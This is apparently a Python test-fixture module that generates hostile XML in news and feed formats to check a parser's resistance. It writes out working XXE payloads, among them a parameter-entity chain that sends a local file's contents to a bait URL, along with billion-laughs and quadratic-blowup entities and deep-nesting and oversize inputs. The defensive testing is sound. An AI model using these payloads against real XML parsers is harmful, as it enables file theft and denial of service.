"""XML that reaches out, grows or goes deep, in each of the XML formats that are read."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.chaos.hostile import MIB, Hostile, made

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.chaos.hostile import Bait

DEEP = 100_000
"""Levels of nesting: a parser that recurses ends long before."""

FORMATS = {
    "nitf": (
        "nitf",
        (
            "<nitf><body><body.head><hedline><hl1>{title} {use}</hl1></hedline></body.head>"
            "<body.content><p>Pier {title} stays shut. {use}</p></body.content></body></nitf>"
        ),
    ),
    "newsml_g2": (
        "newsItem",
        (
            '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" standard="NewsML-G2" '
            'standardversion="2.34" guid="tag:example.org,2026:{title}" version="1">'
            "<contentMeta><headline>{title} {use}</headline></contentMeta><contentSet><inlineXML "
            'contenttype="application/xhtml+xml"><html xmlns="http://www.w3.org/1999/xhtml"><body>'
            "<p>Pier {title} stays shut. {use}</p></body></html></inlineXML></contentSet>"
            "</newsItem>"
        ),
    ),
    "newsml_1": (
        "NewsML",
        (
            '<NewsML Version="1.2"><NewsItem><Identification><NewsIdentifier><ProviderId>a.example'
            "</ProviderId><DateId>20261101</DateId><NewsItemId>{title}</NewsItemId>"
            '<RevisionId PreviousRevision="0" Update="N">1</RevisionId></NewsIdentifier>'
            "</Identification><NewsComponent><NewsLines><HeadLine>{title} {use}</HeadLine>"
            "</NewsLines>"
            "<ContentItem><DataContent><p>Pier {title} stays shut. {use}</p></DataContent>"
            "</ContentItem></NewsComponent></NewsItem></NewsML>"
        ),
    ),
    "rss": (
        "rss",
        (
            '<rss version="2.0"><channel><title>Pier news</title><item><title>{title} {use}</title>'
            "<guid>tag:example.org,2026:{title}</guid><description>Pier {title} stays shut. "
            "{use}</description></item></channel></rss>"
        ),
    ),
    "atom": (
        "feed",
        (
            '<feed xmlns="http://www.w3.org/2005/Atom"><title>Pier news</title><entry>'
            "<id>tag:example.org,2026:atom-{title}</id><title>{title} {use}</title>"
            "<content>Pier {title} stays shut. {use}</content></entry></feed>"
        ),
    ),
    "xhtml": (
        "html",
        (
            '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>{title} {use}</title></head>'
            "<body><h1>{title}</h1><p>The pier of {title} stays shut until the spring. {use}</p>"
            "</body></html>"
        ),
    ),
}
"""Of each format: its root element, and a file with room for a title and for what is used."""


def declarations(bait: Bait) -> Iterator[tuple[str, str, str]]:
    """Name, the DTD (``ROOT`` for the root element) and what the text uses of it."""
    file, url = bait.canary.as_uri(), bait.url
    yield "xxe-file", f'<!DOCTYPE ROOT [<!ENTITY x SYSTEM "{file}">]>', "&x;"
    yield "xxe-http", f'<!DOCTYPE ROOT [<!ENTITY x SYSTEM "{url}/x">]>', "&x;"
    yield "external-dtd-http", f'<!DOCTYPE ROOT SYSTEM "{url}/news.dtd">', "&x;"
    yield "external-dtd-file", f'<!DOCTYPE ROOT PUBLIC "-//EX//DTD 1//EN" "{file}">', "&x;"
    yield (
        "parameter-entities",
        f'<!DOCTYPE ROOT [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p; <!ENTITY x "expanded">]>',
        "&x;",
    )
    yield (
        "parameter-entity-carries-file-out",
        (
            f'<!DOCTYPE ROOT [<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '
            f"'{url}/?%f;'>\"> %e; %s;]>"
        ),
        "",
    )
    yield "billion-laughs", laughs(), "&l9;"
    yield "quadratic-blowup", f'<!DOCTYPE ROOT [<!ENTITY q "{"q" * 50_000}">]>', "&q;" * 20_000
    yield "entity-in-a-circle", '<!DOCTYPE ROOT [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"
    yield (
        "xinclude",
        "",
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{file}"/>',
    )
    yield "stylesheet", f'<?xml-stylesheet type="text/xsl" href="{url}/s.xsl"?>', ""


def laughs() -> str:
    """Ten entities, each ten of the one before: three gigabytes of laughter."""
    levels = "".join(f'<!ENTITY l{i + 1} "{f"&l{i};" * 10}">' for i in range(9))
    return f'<!DOCTYPE ROOT [<!ENTITY l0 "laugh">{levels}]>'


def files(bait: Bait) -> Iterator[Hostile]:
    """Every attack in every format."""
    for form, (root, text) in FORMATS.items():
        for attack, dtd, use in declarations(bait):
            title = f"{form}-{attack}"
            body = text.format(title=title, use=use)
            head = '<?xml version="1.0" encoding="UTF-8"?>\n'
            yield made(f"{title}.xml", (head + dtd.replace("ROOT", root) + body).encode())
        yield from shapes(form, text)
    for form in ("newsml_g2", "rss", "xhtml"):
        title = f"{form}-many-attributes"
        text = FORMATS[form][1].format(title=title, use=attributes(DEEP))
        yield made(f"{title}.xml", text.encode(), slow=True)


def attributes(count: int) -> str:
    """A tag with ``count`` of them; libxml2's HTML parser compares each with each.

    A hundred thousand take it a quarter of a minute, which is what the time limit is for.
    """
    return "<b " + " ".join(f'a{i}="x"' for i in range(count)) + "/>"


def shapes(form: str, text: str) -> Iterator[Hostile]:
    """Too deep, too many, too long."""
    uses = {
        "deep": "<b>" * DEEP + "x" + "</b>" * DEEP,
        "deep-open": "<b>" * DEEP,
        "attributes": attributes(2_000),
        "long-attribute": f'<b a="{"x" * 12 * MIB}"/>',
        "many-namespaces": "".join(f'<b xmlns:n{i}="n{i}">' for i in range(5_000)),
        "long-name": f"<{'b' * MIB}/>",
        "unclosed-comment": "<!-- " + "- " * MIB,
        "unclosed-cdata": "<![CDATA[" + "] " * MIB,
    }
    for name, use in uses.items():
        title = f"{form}-{name}"
        yield made(f"{title}.xml", text.format(title=title, use=use).encode())
